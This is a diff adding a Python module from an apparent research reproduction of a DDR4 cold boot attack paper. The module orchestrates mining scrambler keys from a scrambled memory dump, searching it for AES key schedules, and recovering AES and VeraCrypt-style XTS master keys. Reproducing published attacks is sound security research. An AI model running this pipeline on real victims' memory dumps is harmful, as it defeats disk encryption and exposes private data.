@@ -1,0 +1,163 @@
+"""The end-to-end DDR4 cold boot attack (§III-C, steps 1–4).
+
+Given nothing but a scrambled memory dump, the pipeline:
+
+1. mines candidate scrambler keys from zero-filled blocks using the
+   scrambler-key litmus test (:mod:`repro.attack.keymine`);
+2. descrambles individual 64-byte blocks with every candidate key,
+   looking for blocks that pass the per-block AES key litmus test
+   (:mod:`repro.attack.aes_search`);
+3. extends each sighting across its neighbouring windows (every window
+   of a schedule yields an independent reconstruction — the
+   majority-vote generalisation of the paper's neighbour walk);
+4. recovers the secret AES master key from the head of each voted
+   schedule.
+
+The attack model matches the paper's: no knowledge of which blocks
+share a key, no knowledge of plaintext contents, dump possibly taken
+through a second live scrambler, modest bit decay tolerated throughout.
+"""
+
+from __future__ import annotations
+
+import time
+from dataclasses import dataclass, field
+
+from repro.attack.aes_search import AesKeySearch, RecoveredAesKey, ScheduleHit
+from repro.attack.keymine import CandidateKey, keys_matrix, mine_scrambler_keys
+from repro.dram.image import MemoryImage
+
+
+@dataclass(frozen=True)
+class AttackConfig:
+    """Tunables for the §III-C attack pipeline."""
+
+    key_bits: int = 256
+    #: Litmus decay budget per mined key block.
+    litmus_tolerance_bits: int = 16
+    #: Hamming radius at which decayed key copies merge during mining.
+    merge_radius_bits: int = 16
+    #: Minimum sightings for a mined key to join the candidate set.
+    min_key_count: int = 1
+    #: Only the first this-many bytes are mined for keys (≤16 MB per §III-B).
+    key_scan_limit_bytes: int | None = 16 * 1024 * 1024
+    #: Hamming budget when verifying a predicted round key.
+    verify_tolerance_bits: int = 16
+    #: Cap on candidate keys fed to the search (highest frequency first);
+    #: None means use all mined candidates.
+    max_candidate_keys: int | None = None
+
+
+@dataclass
+class AttackReport:
+    """Everything the attack learned, plus bookkeeping for the write-up."""
+
+    candidate_keys: list[CandidateKey] = field(default_factory=list)
+    recovered_keys: list[RecoveredAesKey] = field(default_factory=list)
+    hits: list[ScheduleHit] = field(default_factory=list)
+    dump_bytes: int = 0
+    mine_seconds: float = 0.0
+    search_seconds: float = 0.0
+
+    @property
+    def master_keys(self) -> list[bytes]:
+        """Recovered AES master keys, strongest evidence first."""
+        return [r.master_key for r in self.recovered_keys]
+
+    @property
+    def scan_rate_mb_per_hour(self) -> float:
+        """Search throughput in MB/hour — the paper's §III-C metric."""
+        total = self.mine_seconds + self.search_seconds
+        if total <= 0:
+            return float("inf")
+        return (self.dump_bytes / (1024 * 1024)) / (total / 3600.0)
+
+    def summary(self) -> str:
+        """One-paragraph human-readable result."""
+        return (
+            f"dump={self.dump_bytes / 1048576:.1f}MiB "
+            f"candidates={len(self.candidate_keys)} hits={len(self.hits)} "
+            f"recovered={len(self.recovered_keys)} "
+            f"(mine {self.mine_seconds:.2f}s + search {self.search_seconds:.2f}s, "
+            f"{self.scan_rate_mb_per_hour:.0f} MB/h)"
+        )
+
+
+class Ddr4ColdBootAttack:
+    """Orchestrates mining and searching over one scrambled dump."""
+
+    def __init__(self, config: AttackConfig | None = None) -> None:
+        self.config = config or AttackConfig()
+
+    def run(self, dump: MemoryImage) -> AttackReport:
+        """Execute steps 1–4 on a scrambled memory image."""
+        config = self.config
+        report = AttackReport(dump_bytes=len(dump))
+
+        start = time.perf_counter()
+        report.candidate_keys = mine_scrambler_keys(
+            dump,
+            tolerance_bits=config.litmus_tolerance_bits,
+            merge_radius_bits=config.merge_radius_bits,
+            min_count=config.min_key_count,
+            scan_limit_bytes=config.key_scan_limit_bytes,
+        )
+        report.mine_seconds = time.perf_counter() - start
+        if not report.candidate_keys:
+            return report
+
+        candidates = report.candidate_keys
+        if config.max_candidate_keys is not None:
+            candidates = candidates[: config.max_candidate_keys]
+        search = AesKeySearch(
+            keys_matrix(candidates),
+            key_bits=config.key_bits,
+            verify_tolerance_bits=config.verify_tolerance_bits,
+        )
+        start = time.perf_counter()
+        report.recovered_keys = search.recover_keys(dump)
+        report.hits = [hit for rec in report.recovered_keys for hit in rec.hits]
+        report.search_seconds = time.perf_counter() - start
+        return report
+
+    def recover_xts_master_key(self, dump: MemoryImage) -> bytes | None:
+        """Recover a VeraCrypt-style 64-byte XTS master key, if present.
+
+        A mounted XTS volume keeps two adjacent AES-256 schedules in RAM
+        — the primary schedule immediately followed (240 bytes later) by
+        the tweak schedule.  Both are recovered independently; a pair of
+        recovered keys whose table bases differ by exactly one schedule
+        length is joined into the 64-byte master key.
+        """
+        from repro.attack.aes_search import AesKeySearch
+        from repro.crypto.aes import schedule_bytes
+
+        report = self.run(dump)
+        by_base = {r.hits[0].table_base: r for r in report.recovered_keys if r.hits}
+        stride = schedule_bytes(self.config.key_bits)
+        for base in sorted(by_base):
+            partner = by_base.get(base + stride)
+            if partner is not None:
+                return by_base[base].master_key + partner.master_key
+
+        # Second chance: one schedule of the XTS pair was recovered but
+        # its sibling's windows were too decayed for the general scan.
+        # The sibling's base is *known* (adjacent schedules), so retry
+        # with the targeted, loose-tolerance recovery.
+        if by_base and report.candidate_keys:
+            candidates = report.candidate_keys
+            if self.config.max_candidate_keys is not None:
+                candidates = candidates[: self.config.max_candidate_keys]
+            search = AesKeySearch(
+                keys_matrix(candidates),
+                key_bits=self.config.key_bits,
+                verify_tolerance_bits=self.config.verify_tolerance_bits,
+            )
+            for base in sorted(by_base):
+                after = search.recover_at_base(dump, base + stride)
+                if after is not None:
+                    return by_base[base].master_key + after.master_key
+                before = search.recover_at_base(dump, base - stride)
+                if before is not None:
+                    return before.master_key + by_base[base].master_key
+        return None
